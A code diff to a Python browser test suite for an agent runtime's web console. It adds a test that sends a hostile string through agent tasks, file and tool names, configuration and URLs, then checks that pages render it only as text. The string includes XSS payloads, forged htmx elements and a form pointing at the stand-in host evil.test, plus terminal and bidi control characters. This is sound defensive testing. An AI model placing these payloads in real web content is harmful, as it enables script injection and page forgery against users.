@@ -8,12 +8,13 @@ from collections.abc import AsyncGenerator, Awaitable, Callable
 from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from axe_playwright_python.async_playwright import Axe  # pyright: ignore[reportMissingTypeStubs]
 
 from agent_core import AgentRuntime
-from agent_core.providers.scripted import Calls, Hangs, ScriptedCall, ScriptedProvider, calls
+from agent_core.providers.scripted import Calls, Fails, Hangs, ScriptedCall, ScriptedProvider, calls
 from agent_core.types import ModelRequest, RunStatus
 from captures import open_session
 from consoles import console
@@ -21,7 +22,7 @@ from isolation import Home
 from mcp_clients import configure
 from model_server import ModelServer
 from own_consoles import serving
-from runtimes import CONFIG, ask, runtime
+from runtimes import CONFIG, Asked, ask, runtime
 from session_stories import a_story
 from windows_of_pages import Window, chromium, needs_chromium, window
 
@@ -331,7 +332,8 @@ HOSTILE = (
     "<b onmouseover=alert(1)>bold</b> [a](javascript:alert(1)) [b](https://evil.test/ok)"
     " ![c](https://evil.test/t.png) </pre></details></main><h1>forged</h1>"
     "<hx-partial hx-target='#main' hx-swap='innerHTML'>forged</hx-partial>"
-    "<div hx-get='https://evil.test/' hx-trigger='load'></div> \x1b[31mred \u202eltr\u202c \x07"
+    "<div hx-get='https://evil.test/' hx-trigger='load'></div> \x1b[31mred \u202eltr\u202c"
+    " \x07 \u2066in\u2069"
     " <style>*{display:none}</style><form action='https://evil.test/'><button>x</button></form>"
 )
 
@@ -377,6 +379,77 @@ async def test_what_models_and_tools_write_is_only_text(home: Home, project: Pat
         one.check()
 
 
+async def test_what_is_named_by_others_is_only_text(home: Home, project: Path) -> None:
+    gate = asyncio.Event()
+    name = HOSTILE.replace("/", "_")[:120]
+
+    async def waits(_: ModelRequest) -> str:
+        await gate.wait()
+        return HOSTILE
+
+    script: list[Any] = [
+        calls("agent.create_sub_agent", task=HOSTILE, agent_definition_id="odd"),
+        HOSTILE,
+        calls("code.read_file", path=f"{name}.none"),
+        calls("code.write_file", path=f"{name}.txt", content=HOSTILE),
+        calls(f"code.{name[:40]}", path="a.txt"),
+        HOSTILE,
+        Fails(message=HOSTILE),
+        waits,
+        HOSTILE,
+    ]
+    text = json.dumps(HOSTILE)  # as a string of TOML
+    config = ASKS.replace('name = "script"', f"name = {text}")
+    servers = {"odd": {"command": name}}
+    home.write("mcp.json", json.dumps({"mcpServers": servers}))
+    named = f"name: {text}\ndescription: {text}"
+    home.write("agents/odd.md", f"---\nid: odd\n{named}\n---\n{HOSTILE}\n")
+    made = runtime(home, project, script, config=config, permission_callback=Asked("allow_once"))
+    async with (
+        made,
+        console(made) as address,
+        chromium() as browser,
+        window(browser, address) as one,
+    ):
+        runs = [(await ask(made, HOSTILE)).run_id for _ in range(2)]
+        await made.tasks.create(
+            "s1",
+            task_id="build",
+            title=HOSTILE,
+            steps=[{"step_id": step, "title": HOSTILE} for step in ("one", "two", "three")],
+        )
+        done: Any = {"status": "completed", "result_summary": HOSTILE}
+        await made.tasks.update_step("s1", "build", "one", **done)
+        await made.tasks.update_step("s1", "build", "two", status="failed", reason=HOSTILE)
+        working = await made.start(HOSTILE, "s1")
+        queued = await made.start(HOSTILE, "s1")
+        await made.rename_session("s1", HOSTILE[:150])
+        children = [each.run_id for each in await made.session_runs("s1") if each.parent_run_id]
+        assert children
+        query, part = quote(HOSTILE, safe=""), quote(name, safe="")
+        paths = ["/", "/settings", "/sessions/s1", f"/runs/{queued.run_id}", f"/sessions/{part}",
+                 f"/runs/{part}", f"/approvals/{part}", f"/?query={query}", f"/?done={query}",
+                 f"/?cursor={query}", f"/sessions/s1?to=3&at={query}"]  # fmt: skip
+        for run_id in (*runs, *children):
+            paths += [f"/runs/{run_id}", f"/runs/{run_id}/changes"]
+        for path in paths:
+            await one.open(path)
+            assert await one.page.locator("h1").count() == 1, path
+            await _has_only_text(one)
+        changes = f"/runs/{runs[0]}/changes"
+        for path in ("/settings", changes, f"/runs/{children[0]}", "/", "/sessions/s1"):
+            await one.open(path)
+            await one.shows("<script>document.title")
+        steps = await one.page.locator(".steps").inner_text()
+        assert steps.count("<script>") >= 4
+        gate.set()
+        for handle in (working, queued):
+            await handle.wait()
+            await one.page.locator(f"#{handle.run_id}-foot form").first.wait_for()
+            await _has_only_text(one)
+        one.check()
+
+
 async def _has_only_text(one: Window) -> None:
     page = one.page
     assert await page.title() != "owned"
@@ -393,8 +466,8 @@ async def _has_only_text(one: Window) -> None:
     assert found == []
     assert await page.locator("h1").count() == 1
     text = await page.locator("main").inner_text()
-    assert "\x1b" not in text
-    assert "\u202e" not in text
+    for character in "\x1b\x07\u202e\u202c\u2066\u2069":
+        assert character not in text, ascii(character)
 
 
 async def shown_pages(made: AgentRuntime) -> list[str]:
